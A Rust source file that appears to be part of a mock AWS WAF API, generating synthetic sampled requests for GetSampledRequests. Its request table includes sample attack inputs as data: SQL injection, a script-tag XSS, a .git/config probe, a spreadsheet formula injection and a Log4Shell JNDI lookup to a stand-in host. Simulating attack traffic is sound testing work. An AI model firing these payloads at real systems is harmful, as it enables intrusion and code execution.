//! `GetSampledRequests`: requests that a rule matched in the last three hours, drawn from the names of things, with what
//! attackers send.

use serde_json::{Map, Value, json};

use super::{Around, Outcome, Refusal};
use crate::traffic::chance;

/// WAF keeps samples for so long, seconds.
const KEPT: f64 = 3.0 * 3_600.0;

/// What comes: method, path below the stage, a header.
const REQUESTS: &[(&str, &str, &str)] = &[
    ("POST", "/v2/login", "python-requests/2.32"),
    ("POST", "/v1/login", "curl/8.9.1"),
    ("GET", "/v2/search?q=%27%20OR%201%3D1--", "sqlmap/1.8"),
    ("GET", "/v2/products?next=<script>alert(1)</script>", "Mozilla/5.0 (X11; Linux x86_64)"),
    ("POST", "/v2/coupons/validate?session_token=eyJhbGciOi", "okhttp/4.12"),
    ("GET", "/.git/config", "Go-http-client/1.1"),
    ("GET", "/v2/gift-cards/AAAA-0001/balance", "=HYPERLINK(\"http://x.example\")"),
    ("POST", "/v2/login", "\u{1b}[31mred\u{1b}[0m ${jndi:ldap://x.example/a}"),
];

/// Answers it for an ACL. `rules` are its rules.
pub(super) fn samples(body: &Value, acl: &Map<String, Value>, around: &Around<'_>) -> Outcome {
    let invalid = |field: &str, parameter: &str| {
        Refusal::new(
            400,
            "WAFInvalidParameterException",
            format!("Error reason: The parameter is not valid., field: {field}, parameter: {parameter}"),
        )
    };
    let most = body["MaxItems"].as_u64().filter(|most| (1..=500).contains(most));
    let most = most.ok_or_else(|| invalid("SAMPLED_REQUESTS_MAX_ITEMS", ""))?;
    let metric = body["RuleMetricName"].as_str().unwrap_or_default();
    let moment = |name: &str| body["TimeWindow"][name].as_f64().ok_or_else(|| invalid("TIME_WINDOW", name));
    let (start, end) = (moment("StartTime")?, moment("EndTime")?);
    #[expect(clippy::cast_precision_loss, reason = "seconds since 1970")]
    let now = around.now.as_second() as f64;
    // A minute's grace: the clock of whoever asks may be behind.
    if start > end || start < now - KEPT - 60.0 {
        return Err(invalid("TIME_WINDOW", "StartTime"));
    }
    let rules = acl.get("Rules").and_then(Value::as_array).cloned().unwrap_or_default();
    let rule = rules.iter().find(|rule| rule["VisibilityConfig"]["MetricName"] == metric);
    let action = match rule {
        None if metric == "Default_Action" || metric == "ALL" => "ALLOW",
        None => return Err(invalid("RULE_METRIC_NAME", metric)),
        Some(rule) if rule["OverrideAction"].get("Count").is_some() || rule["Action"].get("Count").is_some() => "COUNT",
        Some(rule) if rule["Action"].get("Allow").is_some() => "ALLOW",
        Some(rule) if rule["Action"].get("Captcha").is_some() => "CAPTCHA",
        Some(_) => "BLOCK",
    };
    let group = rule.is_some_and(|rule| rule.get("OverrideAction").is_some());
    #[expect(clippy::cast_possible_truncation, reason = "seconds since 1970")]
    let minutes = (start / 60.0).ceil() as i64..(end / 60.0).floor() as i64 + 1;
    let mut items = Vec::new();
    for minute in minutes {
        if chance(metric, minute) > 0.25 {
            continue;
        }
        items.push(sampled(metric, minute, action, group));
        if items.len() as u64 >= most {
            break;
        }
    }
    let answer = json!({
        "SampledRequests": items, "PopulationSize": items.len() * 7,
        "TimeWindow": { "StartTime": start, "EndTime": end }
    });
    Ok((200, answer))
}

fn sampled(metric: &str, minute: i64, action: &str, group: bool) -> Value {
    let drawn = |salt: i64, of: usize| pick(chance(metric, minute ^ salt), of);
    let (method, path, agent) = REQUESTS[drawn(0x11, REQUESTS.len())];
    let country = ["DE", "NL", "US", "BR", "VN"][drawn(0x22, 5)];
    let mut one = json!({
        "Request": {
            "ClientIP": format!("198.51.100.{}", drawn(0x33, 250) + 1), "Country": country,
            "URI": format!("/prod{path}"), "Method": method, "HTTPVersion": "HTTP/2.0",
            "Headers": [
                { "Name": "Host", "Value": "api.shop.example.com" },
                { "Name": "User-Agent", "Value": agent },
                { "Name": "Authorization", "Value": "Bearer eyJhbGciOiJIUzI1NiJ9.e30.demo" },
            ]
        },
        "Weight": drawn(0x44, 9) + 1, "Timestamp": minute * 60, "Action": action, "Labels": []
    });
    if group {
        one["RuleNameWithinRuleGroup"] = json!("AWS#AWSManagedRulesCommonRuleSet#NoUserAgent_HEADER");
        one["OverriddenAction"] = json!(if action == "COUNT" { "BLOCK" } else { "" });
    }
    if action == "BLOCK" {
        one["ResponseCodeSent"] = json!(403);
    }
    one
}

#[expect(
    clippy::cast_possible_truncation,
    clippy::cast_sign_loss,
    clippy::cast_precision_loss,
    reason = "a place in a short list"
)]
fn pick(chance: f64, of: usize) -> usize {
    ((chance * of as f64) as usize).min(of.saturating_sub(1))
}
